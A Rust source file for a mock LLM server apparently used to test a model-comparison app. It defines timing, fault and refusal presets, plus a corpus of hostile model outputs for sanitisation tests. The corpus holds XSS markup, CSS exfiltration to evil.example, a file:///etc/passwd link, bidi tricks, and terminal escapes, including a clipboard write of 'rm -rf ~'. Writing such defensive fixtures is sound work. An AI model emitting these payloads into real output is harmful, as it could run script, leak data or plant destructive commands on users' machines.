//! Per-request behaviour, parsed from the model name.
//!
//! Overrides (`mock/<preset>@k=v,…`), besides timing (`ttft`, `tps`, `tokens`, `reasoning`,
//! `chunk`) and faults (`status`, `fail_after`, `drop_after`, …):
//! - `refuse=1`: the model declines. OpenAI-style faces stream `delta.refusal` (content null) and
//!   finish `stop`; Anthropic streams the refusal as text and stops with `refusal`; Gemini sends no
//!   text and finishes `SAFETY` with `safetyRatings`; Ollama (no refusal concept) says it as text.
//!   `tokens` counts the refusal's words ([`refusal_word`]).
//! - `filter=1`: a content filter stops the answer after its text: OpenAI and OpenRouter
//!   `content_filter`, Gemini `SAFETY`, Anthropic `refusal`; a local server and Ollama finish
//!   normally.
//! - `length=1`: the answer hits its token limit (`length` / `MAX_TOKENS` / `max_tokens`);
//!   `context_exceeded=1`: it fills the context window (Anthropic
//!   `model_context_window_exceeded`; the others say it as a token limit).
//! - `cached=N`, `cache_write=N`: N prompt tokens read from / written to the prompt cache, in each
//!   face's shape (capped at the prompt's size). OpenRouter bills cache reads at 10 % and cache
//!   writes at 125 % of the prompt price: `usage.cost` = (prompt − cached − written) × price_in
//!   + cached × 0.1 × price_in + written × 1.25 × price_in + completion × price_out.
//! - `reasoning_model=1`: the OpenAI face treats the model as an o-series/gpt-5 model (it rejects
//!   `max_tokens` and any `temperature`/`top_p` but 1).
//! - `tag=…`: no effect; a label that tells one request from another in the wire record
//!   (`GET /__mock/wire`, for benchmarks).

/// Presets: (name, description, overrides applied to the defaults).
pub const PRESETS: &[(&str, &str, &str)] = &[
    (
        "fast",
        "Answers quickly: 100 ms to first token, 200 tokens/s.",
        "ttft=100,tps=200,tokens=60",
    ),
    (
        "medium",
        "400 ms to first token, 60 tokens/s.",
        "ttft=400,tps=60,tokens=60",
    ),
    (
        "slow",
        "1.2 s to first token, 25 tokens/s.",
        "ttft=1200,tps=25,tokens=60",
    ),
    (
        "sluggish",
        "2.5 s to first token, 40 tokens/s: slower than the providers' p90 on its OpenRouter endpoints page.",
        "ttft=2500,tps=40,tokens=30",
    ),
    (
        "thinker",
        "Streams 30 reasoning tokens before answering.",
        "ttft=300,tps=80,tokens=40,reasoning=30",
    ),
    (
        "hidden-thinker",
        "Thinks for 150 tokens without showing it, then answers 30 tokens at 100 tok/s.",
        "ttft=100,tps=100,tokens=30,reasoning=150,hidden_reasoning=1",
    ),
    (
        "byok",
        "Bring-your-own-key: OpenRouter bills a 5 % fee; the provider's charge is apart.",
        "ttft=100,tps=200,tokens=40,byok=1",
    ),
    (
        "no-cost",
        "Reports usage but no cost, like a local server.",
        "ttft=150,tps=120,tokens=30,cost=0",
    ),
    (
        "rate-limited",
        "Always answers HTTP 429 with Retry-After: 2.",
        "status=429,retry_after=2",
    ),
    ("bad-key", "Always answers HTTP 401.", "status=401"),
    ("overloaded", "Always answers HTTP 503.", "status=503"),
    (
        "dies-midway",
        "Sends an error event after 10 tokens.",
        "ttft=150,tps=100,tokens=40,fail_after=10",
    ),
    (
        "drops",
        "Drops the connection after 10 tokens.",
        "ttft=150,tps=100,tokens=40,drop_after=10",
    ),
    (
        "garbled",
        "Sends a malformed JSON chunk after 5 tokens.",
        "ttft=150,tps=100,tokens=40,malformed_after=5",
    ),
    (
        "stalls",
        "Sends keep-alives, then nothing: never finishes.",
        "ttft=200,stall=1",
    ),
    (
        "stalls-midway",
        "Streams 10 tokens, then sends nothing more and never finishes.",
        "ttft=100,tps=100,tokens=40,stall_after=10",
    ),
    (
        "flaky",
        "Answers 429 (Retry-After: 1) to its first request, then streams.",
        "ttft=100,tps=200,tokens=20,fail_first=1,retry_after=1",
    ),
    (
        "gzipped",
        "Compresses its stream although asked not to.",
        "ttft=50,tps=500,tokens=10,gzip=1",
    ),
    (
        "free",
        "Listed at $0 (a free-tier model) with an 8K context.",
        "ttft=100,tps=200,tokens=20,price_in=0,price_out=0,context=8192",
    ),
    (
        "premium",
        "Listed at $15/$75 per million tokens with a 200K context.",
        "ttft=200,tps=100,tokens=40,price_in=15,price_out=75,context=200000",
    ),
    (
        "slow-headers",
        "Takes 800 ms before sending response headers.",
        "ttft=900,tps=200,tokens=10,slow_headers=800",
    ),
    (
        "refuses",
        "Declines in 8 words: OpenAI-style faces stream delta.refusal, Anthropic stops with refusal, Gemini with SAFETY and no text; Ollama just says no.",
        "ttft=100,tps=200,tokens=8,refuse=1",
    ),
    (
        "filtered",
        "A content filter stops it after 20 tokens: content_filter (OpenAI, OpenRouter), SAFETY (Gemini), refusal (Anthropic); local servers and Ollama finish normally.",
        "ttft=100,tps=200,tokens=20,filter=1",
    ),
    (
        "out-of-budget",
        "A reasoning model that spends its whole token limit thinking (40 tokens) and writes no answer: length / MAX_TOKENS / max_tokens.",
        "ttft=100,tps=200,tokens=0,reasoning=40,length=1,reasoning_model=1",
    ),
    (
        "truncated",
        "Hits its token limit after 30 tokens, mid-answer: length / MAX_TOKENS / max_tokens.",
        "ttft=100,tps=200,tokens=30,length=1",
    ),
    (
        "hostile",
        "Answers with terminal escapes (OSC 52 clipboard write, OSC 0 title, screen clear, carriage return), HTML that would run script, and a javascript: link: for tests that nothing obeys or runs them.",
        "ttft=50,tps=500,tokens=9,hostile=1",
    ),
    (
        "vision",
        "Reads images and PDFs (its catalog entry lists image and file input): its answer says what was attached, by type and size. The other presets list text input only, and OpenRouter refuses them an image.",
        "ttft=100,tps=200,tokens=12,vision=1",
    ),
    (
        "context-exceeded",
        "Fills its context window after 30 tokens: Anthropic model_context_window_exceeded; the others stop as at a token limit.",
        "ttft=100,tps=200,tokens=30,context_exceeded=1",
    ),
];

#[derive(Debug, Clone, PartialEq)]
pub struct Script {
    pub ttft_ms: u64,
    pub tps: f64,
    pub tokens: u64,
    pub reasoning_tokens: u64,
    /// Answer with this HTTP error status instead of streaming.
    pub status: Option<u16>,
    pub retry_after_s: Option<u64>,
    pub fail_after: Option<u64>,
    pub drop_after: Option<u64>,
    pub malformed_after: Option<u64>,
    pub stall: bool,
    /// Tokens per stream event (default: the provider face's habit).
    pub chunk: Option<u64>,
    /// Reasoning is generated but not streamed (OpenRouter encrypted, Anthropic redacted).
    pub hidden_reasoning: bool,
    /// OpenRouter bring-your-own-key: `usage.cost` is only the fee.
    pub byok: bool,
    /// Send this many answer tokens, then nothing more (no byte, no end): a stall mid-answer.
    pub stall_after: Option<u64>,
    pub slow_headers_ms: u64,
    pub report_cost: bool,
    /// Fail the first N requests for this model with this status, then answer (retry tests).
    pub fail_first: Option<(u64, u16)>,
    /// Compress the body although the client asked for identity.
    pub gzip: bool,
    pub require_key: bool,
    /// Answer with the request's credential header in the text, as a misbehaving proxy that
    /// echoes the request would (`echo_key=1`): what the app saves and exports must not hold it.
    pub echo_key: bool,
    pub max_tokens_hit: bool,
    /// The answer filled the context window (Anthropic `model_context_window_exceeded`).
    pub context_exceeded: bool,
    /// The model declines: its words are [`refusal_word`]s, said in each face's refusal shape.
    pub refuse: bool,
    /// A content filter ends the answer after its text.
    pub content_filter: bool,
    /// Prompt tokens read from the cache.
    pub cached: u64,
    /// Prompt tokens written to the cache.
    pub cache_write: u64,
    /// The OpenAI face validates it as an o-series/gpt-5 model.
    pub reasoning_model: bool,
    /// Takes images and files (its catalog entry lists `image` and `file` input); OpenRouter
    /// refuses an image to a model without it.
    pub vision: bool,
    /// USD per token.
    pub prompt_price: f64,
    pub completion_price: f64,
    /// The context window the catalog lists.
    pub context_length: u64,
    /// The answer's words, in order (the demo's written answers); `None`: the stock vocabulary.
    /// Joined with single spaces they give the text back exactly (newlines live inside words).
    pub words: Option<Vec<&'static str>>,
}

impl Default for Script {
    fn default() -> Self {
        Self {
            ttft_ms: 200,
            tps: 50.0,
            tokens: 40,
            reasoning_tokens: 0,
            status: None,
            retry_after_s: None,
            fail_after: None,
            drop_after: None,
            malformed_after: None,
            stall: false,
            stall_after: None,
            chunk: None,
            hidden_reasoning: false,
            byok: false,
            slow_headers_ms: 0,
            report_cost: true,
            fail_first: None,
            gzip: false,
            require_key: false,
            echo_key: false,
            max_tokens_hit: false,
            context_exceeded: false,
            refuse: false,
            content_filter: false,
            cached: 0,
            cache_write: 0,
            reasoning_model: false,
            vision: false,
            prompt_price: 0.000001,
            completion_price: 0.000002,
            context_length: 32768,
            words: None,
        }
    }
}

impl Script {
    pub fn preset(name: &str) -> Option<Script> {
        let (_, _, overrides) = PRESETS.iter().find(|(n, _, _)| *n == name)?;
        let mut s = Script::default();
        s.apply(overrides).ok()?;
        Some(s)
    }

    /// `mock/<preset>[@k=v,...]`, or `mock/custom@k=v,...` starting from the defaults.
    pub fn from_model(model: &str) -> Result<Script, String> {
        if let Some((_, preset, _)) = REAL_IDS.iter().find(|(id, _, _)| *id == model) {
            return Ok(Script::preset(preset).expect("presets parse"));
        }
        let rest = model.strip_prefix("mock/").ok_or_else(|| {
            format!("{model} is not a valid model ID (the mock serves mock/* only)")
        })?;
        let (name, overrides) = rest.split_once('@').unwrap_or((rest, ""));
        let mut s = if name == "custom" {
            Script::default()
        } else {
            Script::preset(name).ok_or_else(|| format!("{model} is not a valid model ID"))?
        };
        s.apply(overrides)?;
        Ok(s)
    }

    pub(crate) fn apply(&mut self, overrides: &str) -> Result<(), String> {
        for kv in overrides.split(',').filter(|s| !s.is_empty()) {
            let (k, v) = kv
                .split_once('=')
                .ok_or_else(|| format!("bad mock override {kv:?}"))?;
            let n = || {
                v.parse::<u64>()
                    .map_err(|_| format!("mock override {k} needs a number, got {v:?}"))
            };
            match k {
                "ttft" => self.ttft_ms = n()?,
                "tps" => self.tps = v.parse().map_err(|_| format!("bad tps {v:?}"))?,
                "tokens" => self.tokens = n()?,
                "reasoning" => self.reasoning_tokens = n()?,
                "status" => self.status = Some(n()? as u16),
                "retry_after" => self.retry_after_s = Some(n()?),
                "fail_after" => self.fail_after = Some(n()?),
                "drop_after" => self.drop_after = Some(n()?),
                "malformed_after" => self.malformed_after = Some(n()?),
                "stall" => self.stall = n()? != 0,
                "stall_after" => self.stall_after = Some(n()?),
                "chunk" => self.chunk = Some(n()?),
                "hidden_reasoning" => self.hidden_reasoning = n()? != 0,
                "byok" => self.byok = n()? != 0,
                "slow_headers" => self.slow_headers_ms = n()?,
                "cost" => self.report_cost = n()? != 0,
                "fail_first" => {
                    self.fail_first = Some((n()?, self.fail_first.map_or(429, |(_, s)| s)))
                }
                "fail_status" => {
                    self.fail_first = Some((self.fail_first.map_or(1, |(k, _)| k), n()? as u16))
                }
                "gzip" => self.gzip = n()? != 0,
                "hostile" => {
                    if n()? != 0 {
                        self.words = Some(HOSTILE.to_vec());
                    }
                }
                "corpus" => {
                    if n()? != 0 {
                        self.words = Some(hostile_corpus().to_vec());
                    }
                }
                "markdown" => {
                    if n()? != 0 {
                        self.words = Some(MARKDOWN.to_vec());
                    }
                }
                "math" => {
                    if n()? != 0 {
                        self.words = Some(MATH.to_vec());
                    }
                }
                "require_key" => self.require_key = n()? != 0,
                "echo_key" => self.echo_key = n()? != 0,
                "length" => self.max_tokens_hit = n()? != 0,
                "context_exceeded" => self.context_exceeded = n()? != 0,
                "refuse" => self.refuse = n()? != 0,
                "filter" => self.content_filter = n()? != 0,
                "cached" => self.cached = n()?,
                "cache_write" => self.cache_write = n()?,
                "reasoning_model" => self.reasoning_model = n()? != 0,
                "vision" => self.vision = n()? != 0,
                "price_in" | "price_out" => {
                    // USD per million tokens, as people read prices.
                    let per_m: f64 = v.parse().map_err(|_| {
                        format!("mock override {k} needs USD per million, got {v:?}")
                    })?;
                    let per_token = per_m / 1e6;
                    if k == "price_in" {
                        self.prompt_price = per_token;
                    } else {
                        self.completion_price = per_token;
                    }
                }
                "context" => self.context_length = n()?,
                // A label with no effect, so that a benchmark can tell its requests apart in
                // the wire record (`GET /__mock/wire`).
                "tag" => {}
                _ => return Err(format!("unknown mock override {k:?}")),
            }
        }
        Ok(())
    }
}

/// Real direct-provider ids the mock also answers (as the `fast` preset), with the dated id the
/// real service reports as the model that answered: for tests of list prices matched from the
/// OpenRouter catalog and of dated served ids (which are not fallbacks).
pub const REAL_IDS: &[(&str, &str, &str)] = &[
    ("gpt-4o", "fast", "gpt-4o-2024-08-06"),
    ("openai/gpt-4o", "fast", "openai/gpt-4o"),
    ("claude-sonnet-4-5", "fast", "claude-sonnet-4-5-20250929"),
    ("gemini-2.5-flash", "fast", "gemini-2.5-flash"),
];

/// The id the service reports as having answered `model`.
pub fn served_id(model: &str) -> &str {
    REAL_IDS
        .iter()
        .find(|(id, _, _)| *id == model)
        .map_or(model, |(_, _, served)| served)
}

/// What an attacker would make a model say (the `hostile` preset), one "word" each.
pub const HOSTILE: &[&str] = &[
    "Hello",
    "\u{1b}]52;c;cm0gLXJmIH4K\u{7}",
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\roverwritten",
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "[click](javascript:window.__pwned=1)",
    "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
];

/// `corpus=1`: the hostile-output corpus (issue 14), one payload per "word": markup that would
/// run script (tags, event handlers, SVG/MathML tricks, `javascript:`/`data:`/`vbscript:`
/// links, iframes, forms, meta refresh), CSS that would leak (remote stylesheets, `url()`),
/// Markdown link and image tricks (reference links, autolinks, titles that close their quote,
/// nested images), entity-encoded markup, bidi and zero-width characters, terminal escapes
/// (OSC 52/0/8, CSI clears, the alternate screen, C1 CSI, DCS, CR, BEL, BS, NUL) and a list
/// nested 100 deep. `window.__pwned` is what each script would set. (A megabyte on one line is
/// `tokens=170000,chunk=170000` of the stock words.)
pub fn hostile_corpus() -> &'static [&'static str] {
    static CORPUS: std::sync::LazyLock<Vec<&'static str>> = std::sync::LazyLock::new(|| {
        let mut v: Vec<String> = [
            "<script>window.__pwned=1</script>",
            "<img src=x onerror=\"window.__pwned=2\">",
            "<svg onload=\"window.__pwned=3\"><circle r=1/></svg>",
            "<svg><script>window.__pwned=4</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned=5\">",
            "<iframe src=\"javascript:window.__pwned=6\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__pwned=7</script>\"></iframe>",
            "<object data=\"javascript:window.__pwned=8\"></object>",
            "<embed src=\"data:text/html,<script>parent.__pwned=9</script>\">",
            "<a href=\"javascript:window.__pwned=10\">click</a>",
            "<details open ontoggle=\"window.__pwned=11\">x</details>",
            "<body onload=\"window.__pwned=12\">",
            "<input autofocus onfocus=\"window.__pwned=13\">",
            "<video><source onerror=\"window.__pwned=14\"></video>",
            "<marquee onstart=\"window.__pwned=15\">m</marquee>",
            "<form action=\"javascript:window.__pwned=16\"><button>go</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned=17\">",
            "<base href=\"javascript:/\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<style>@import url(https://evil.example/exfil.css);</style>",
            "<div style=\"background:url(https://evil.example/?leak)\">styled</div>",
            "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
            "<template><script>window.__pwned=23</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=24>\">",
            "<!--<img src=x onerror=window.__pwned=25>-->",
            "<scr<script>ipt>window.__pwned=26</script>",
            "\"><script>window.__pwned=27</script>",
            "[click](javascript:window.__pwned=28)",
            "[click](JaVaScRiPt:window.__pwned=29)",
            "[click](java&#x09;script:window.__pwned=30)",
            "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0zMTwvc2NyaXB0Pg==)",
            "[vb](vbscript:msgbox(32))",
            "[file](file:///etc/passwd)",
            "![track](https://evil.example/track.png)",
            "![img](javascript:window.__pwned=35)",
            "\n\n[ref][x]\n\n[x]: javascript:window.__pwned=36\n\n",
            "<https://evil.example/autolink>",
            "<javascript:window.__pwned=38>",
            "[a](https://example.com \"title\\\" onmouseover=\\\"window.__pwned=39\")",
            "[![nested](x)](javascript:window.__pwned=40)",
            "admin\u{202e}nimda\u{202c}",
            "\u{2066}isolate\u{2069}",
            "zero\u{200b}width\u{200d}joiner\u{feff}bom",
            "\u{202a}embed\u{202c}\u{202b}rtl\u{202c}",
            "\u{1b}]52;c;cm0gLXJmIH4K\u{7}",
            "\u{1b}]0;pwned\u{7}",
            "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
            "\u{1b}[2J\u{1b}[H",
            "\u{1b}[?1049h",
            "\roverwritten",
            "\u{9b}31mC1-CSI",
            "\u{1b}P1$r\u{1b}\\",
            "\u{7}\u{8}\u{8}bell-backspace",
            "nul\u{0}byte",
            "&lt;script&gt;window.__pwned=58&lt;/script&gt;",
            "&#60;img src=x onerror=window.__pwned=59&#62;",
            "`<script>window.__pwned=60</script>`",
            "\n\n```html\n<script>window.__pwned=61</script>\n```\n\n",
            // TeX, which the app draws with KaTeX: links, HTML, styles, images, a macro bomb,
            // a rule the size of a city, markup in \\text, a bidi control.
            "$\\href{javascript:window.__pwned=62}{click}$",
            "$$\\htmlStyle{position:fixed;inset:0;background:red}{covered}$$",
            "\\(\\includegraphics{https://evil.example/i.png}\\)",
            "$\\def\\a{\\a\\a}\\a$",
            "$\\rule{100000em}{100000em}$",
            "\n\n$$\n\\text{<img src=x onerror=alert(67)>}\n$$\n\n",
            "$x \u{202e} y$",
        ]
        .map(String::from)
        .to_vec();
        let mut nested = String::from("\n\n");
        for depth in 0..100 {
            nested.push_str(&"  ".repeat(depth));
            nested.push_str(&format!("- level {depth}\n"));
        }
        nested.push('\n');
        v.push(nested);
        v.into_iter()
            .map(|s| &*Box::leak(s.into_boxed_str()))
            .collect()
    });
    &CORPUS
}

/// `math=1`: an answer with TeX, repeated as long as the stream lasts: inline formulas between
/// `$…$` and `\\(…\\)`, a display formula between `$$` lines, prices written with dollar signs
/// (text, not math). Words joined by single spaces; the newlines are inside the words.
pub const MATH: &[&str] = &[
    "\n\nThe",
    "cost",
    "of",
    "an",
    "answer",
    "is",
    "$c",
    "=",
    "t_{in}",
    "p_{in}",
    "+",
    "t_{out}",
    "p_{out}$,",
    "so",
    "at",
    "$3",
    "in",
    "and",
    "$15",
    "out",
    "per",
    "million,",
    "\\(\\frac{1000",
    "\\cdot",
    "3",
    "+",
    "500",
    "\\cdot",
    "15}{10^6}\\)",
    "dollars:\n\n$$\n\\sum_{i=1}^{n}",
    "\\frac{t_i",
    "p_i}{10^6}",
    "\\approx",
    "\\int_0^T",
    "r(t)\\,dt\n$$\n\nA",
    "matrix",
    "too:",
    "$\\begin{pmatrix}",
    "a",
    "&",
    "b",
    "\\\\",
    "c",
    "&",
    "d",
    "\\end{pmatrix}$.",
];

/// `markdown=1`: a Markdown answer repeated as long as the stream lasts: a heading, a paragraph
/// with emphasis and inline code, a list, a fenced code block and a table, the shapes a model
/// answers with (the 16-column benchmark streams it). Words joined by single spaces; the
/// newlines are inside the words.
pub const MARKDOWN: &[&str] = &[
    "\n\n##",
    "Comparing",
    "two",
    "answers\n\nA",
    "**fast**",
    "model",
    "answers",
    "first;",
    "a",
    "*careful*",
    "one",
    "reads",
    "`the",
    "prompt`",
    "twice",
    "before",
    "it",
    "writes.\n\n-",
    "Latency:",
    "time",
    "to",
    "first",
    "token\n-",
    "Throughput:",
    "tokens",
    "per",
    "second\n-",
    "Cost:",
    "billed",
    "or",
    "computed\n\n```rust\nfn",
    "tokens_per_second(tokens:",
    "u64,",
    "secs:",
    "f64)",
    "->",
    "f64",
    "{\n",
    "",
    "",
    "",
    "tokens",
    "as",
    "f64",
    "/",
    "secs.max(0.001)\n}\n```\n\n|",
    "model",
    "|",
    "TTFT",
    "|",
    "tok/s",
    "|\n|---|---|---|\n|",
    "fast",
    "|",
    "120",
    "ms",
    "|",
    "95",
    "|\n|",
    "careful",
    "|",
    "640",
    "ms",
    "|",
    "41",
    "|",
];

const WORDS: &[&str] = &[
    "Parallax", "streams", "every", "answer", "side", "by", "side", "so", "you", "can", "compare",
    "latency", "tokens", "and", "cost", "across", "models", "without", "guessing", "which", "one",
    "is", "fastest", "or", "cheapest", "for", "the", "prompt", "at", "hand.",
];

const THOUGHTS: &[&str] = &[
    "Considering",
    "what",
    "the",
    "question",
    "really",
    "asks;",
    "weighing",
    "two",
    "readings,",
    "then",
    "settling",
    "on",
    "the",
    "plainer",
    "one.",
];

const REFUSAL: &[&str] = &[
    "I'm", "sorry,", "but", "I", "can't", "help", "with", "that.",
];

/// A refusal's words (`refuse=1`), apart from the answer's vocabulary.
pub fn refusal_word(i: usize) -> &'static str {
    REFUSAL[i % REFUSAL.len()]
}

/// Reasoning words: a vocabulary of their own, so a test can tell reasoning from answer.
pub fn thought(i: usize) -> &'static str {
    THOUGHTS[i % THOUGHTS.len()]
}

pub fn word(i: usize) -> &'static str {
    WORDS[i % WORDS.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_preset_parses() {
        for (name, _, _) in PRESETS {
            assert!(Script::preset(name).is_some(), "preset {name} must parse");
        }
    }

    #[test]
    fn math_words_join_into_an_answer_with_tex() {
        let s = Script::from_model("mock/custom@math=1").unwrap();
        let text = s.words.unwrap().join(" ");
        assert_eq!(
            text,
            "\n\nThe cost of an answer is $c = t_{in} p_{in} + t_{out} p_{out}$, so at $3 in and \
             $15 out per million, \\(\\frac{1000 \\cdot 3 + 500 \\cdot 15}{10^6}\\) dollars:\n\n$$\n\
             \\sum_{i=1}^{n} \\frac{t_i p_i}{10^6} \\approx \\int_0^T r(t)\\,dt\n$$\n\nA matrix \
             too: $\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$."
        );
    }

    #[test]
    fn markdown_words_join_into_a_markdown_answer() {
        let s = Script::from_model("mock/custom@markdown=1").unwrap();
        let text = s.words.unwrap().join(" ");
        assert_eq!(
            text,
            "\n\n## Comparing two answers\n\nA **fast** model answers first; a *careful* one \
             reads `the prompt` twice before it writes.\n\n- Latency: time to first token\n- \
             Throughput: tokens per second\n- Cost: billed or computed\n\n```rust\nfn \
             tokens_per_second(tokens: u64, secs: f64) -> f64 {\n    tokens as f64 / \
             secs.max(0.001)\n}\n```\n\n| model | TTFT | tok/s |\n|---|---|---|\n| fast | 120 \
             ms | 95 |\n| careful | 640 ms | 41 |"
        );
    }

    #[test]
    fn overrides_apply_on_top_of_a_preset() {
        let s = Script::from_model("mock/fast@tokens=3,ttft=0").unwrap();
        assert_eq!((s.tokens, s.ttft_ms, s.tps), (3, 0, 200.0));
        assert!(Script::from_model("openai/gpt-4.1").is_err());
        assert!(Script::from_model("mock/fast@bogus=1")
            .unwrap_err()
            .contains("bogus"));
    }
}
